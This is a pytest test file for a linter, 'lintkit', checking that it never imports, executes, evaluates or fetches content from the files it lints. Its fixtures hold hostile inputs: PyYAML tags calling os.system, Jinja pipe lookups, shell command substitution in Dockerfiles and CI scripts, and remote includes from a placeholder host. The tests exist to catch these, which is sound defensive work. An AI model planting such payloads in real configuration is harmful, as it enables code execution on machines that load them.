"""Linted files are written by strangers: no code from the linted tree is imported, and
nothing in them is executed, evaluated or fetched; machine formats write only their report
to stdout."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import xml.etree.ElementTree as ET

import pytest
from click.testing import CliRunner

from lintkit import registry
from lintkit.cli import main

#: A plugin that announces itself from the linted tree, and a module that would shadow a
#: library lintkit imports.
EVIL_PLUGIN = {
    "evil.egg-info/entry_points.txt": "[lintkit.plugins]\nevil = evil\n",
    "evil.egg-info/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    "evil.py": "import pathlib\npathlib.Path(__file__).with_name('imported-evil').write_text('x')\n",
    "yaml.py": "import pathlib\npathlib.Path(__file__).with_name('imported-yaml').write_text('x')\n",
    "Dockerfile": "FROM alpine:3.20\n",
}
LINTKIT = os.path.join(os.path.dirname(sys.executable), "lintkit")


def _write(root, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


@pytest.mark.parametrize(
    "command",
    [[sys.executable, "-m", "lintkit"], [LINTKIT], [sys.executable, "-c", "from lintkit.cli import run_and_exit; run_and_exit()"]],
    ids=["python -m lintkit", "lintkit", "python -c"],
)
def test_no_module_of_the_linted_tree_is_imported(tmp_path, command):
    _write(tmp_path, EVIL_PLUGIN)
    result = subprocess.run([*command, "check", "--isolated", "."], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert result.returncode == 1, result.stderr  # the Dockerfile's findings: a normal run
    assert "DF015" in result.stdout
    assert not (tmp_path / "imported-evil").exists()
    if command[1:2] != ["-c"]:  # `python -c` imports from the working directory by design
        assert not (tmp_path / "imported-yaml").exists()


def test_plugins_are_read_from_installation_folders_only(tmp_path, monkeypatch):
    _write(tmp_path, EVIL_PLUGIN)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", ["", str(tmp_path), *sys.path])
    assert "" not in registry.installation_folders()
    assert str(tmp_path) not in registry.installation_folders()
    names = {name for name, _ in registry.declared_plugins(registry.PLUGIN_GROUP)}
    assert "builtin" in names and "evil" not in names
    assert "evil" not in {e.name for e in registry._installed_entry_points(registry.PLUGIN_GROUP)}


# --- nothing in a linted file is executed, evaluated or fetched --------------------------

HOSTILE = {
    # YAML tags that PyYAML's unsafe loaders would turn into calls.
    "docker-compose.yml": (
        "services:\n  app:\n    image: !!python/object/apply:os.system [\"touch pwned-yaml\"]\n"
        "    command: !!python/object/new:subprocess.check_output [[\"touch\", \"pwned-yaml-2\"]]\n"
        "    environment:\n      A: !!python/name:os.system\n"
    ),
    "manifest.yaml": (
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: !!python/object/apply:os.system [\"touch pwned-k8s\"]\n"
        "spec:\n  containers:\n    - name: web\n      image: nginx:1.27\n"
    ),
    # Jinja that Ansible would run on the controller.
    "playbook.yml": (
        "- name: Web\n  hosts: all\n  vars:\n    x: \"{{ lookup('pipe', 'touch pwned-jinja') }}\"\n"
        "  tasks:\n    - name: Run\n      ansible.builtin.shell: \"{{ lookup('pipe', 'touch pwned-jinja-2') }} $(touch pwned-shell-ansible)\"\n"
        "    - name: Fetch\n      ansible.builtin.include_tasks: http://example.invalid/tasks.yml\n"
    ),
    # Command substitution in RUN and CI scripts, remote includes and ADD of a URL.
    "Dockerfile": (
        "FROM alpine:3.20\nRUN $(touch pwned-run) && `touch pwned-backtick`\n"
        "ADD http://example.invalid/x.tar.gz /x\nADD https://example.invalid/repo.git /repo\n"
    ),
    ".gitlab-ci.yml": (
        "include:\n  - remote: https://example.invalid/ci.yml\n  - project: a/b\n    file: /ci.yml\n"
        "  - template: Auto-DevOps.gitlab-ci.yml\n"
        "test:\n  script:\n    - $(touch pwned-gitlab)\n    - echo ${{ github.token }} `touch pwned-gitlab-2`\n"
    ),
    ".github/workflows/ci.yml": (
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: https://example.invalid/action@v1\n"
        "      - uses: docker://example.invalid/image:1\n"
        "      - run: $(touch pwned-github) ${{ fromJSON('{\"a\": 1}').a }}\n"
    ),
}


def test_linted_content_is_never_executed_evaluated_or_fetched(tmp_path, monkeypatch):
    _write(tmp_path, HOSTILE)

    def no_network(*args, **kwargs):
        raise AssertionError("lintkit opened a socket")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["check", "--isolated", "--select", "ALL", "--ignore", "shellcheck-run", "--format", "json", "."])
    assert result.exit_code == 1, result.stderr
    assert "internal error" not in result.stderr
    report = json.loads(result.stdout)
    assert report["summary"]["files"] == len(HOSTILE)
    assert not [p.name for p in tmp_path.rglob("pwned*")]


# --- machine formats: only the report on stdout -------------------------------------------

MACHINE_FORMATS = {
    "json": json.loads,
    "sarif": json.loads,
    "gitlab": json.loads,
    "junit": ET.fromstring,
    "github": lambda text: [line for line in text.splitlines() if not line.startswith("::")] == [] or pytest.fail(text),
}


@pytest.mark.parametrize("output_format", sorted(MACHINE_FORMATS))
@pytest.mark.parametrize("files", [{"Dockerfile": "FROM alpine:latest\n"}, {"Dockerfile": "FROM alpine:3.20@sha256:" + "a" * 64 + "\nUSER 1000\nHEALTHCHECK NONE\nLABEL org.opencontainers.image.source=x\n"}, {}],
                         ids=["findings", "clean", "no-files"])
def test_machine_formats_write_only_the_report_to_stdout(tmp_path, output_format, files):
    _write(tmp_path, files)
    result = subprocess.run([LINTKIT, "check", "--isolated", "--format", output_format, "."], cwd=tmp_path,
                            capture_output=True, text=True, check=False)
    assert result.returncode in (0, 1), result.stderr
    MACHINE_FORMATS[output_format](result.stdout)
    if output_format == "github":
        assert result.stderr.splitlines()[-1].startswith(("Found ", "No findings"))
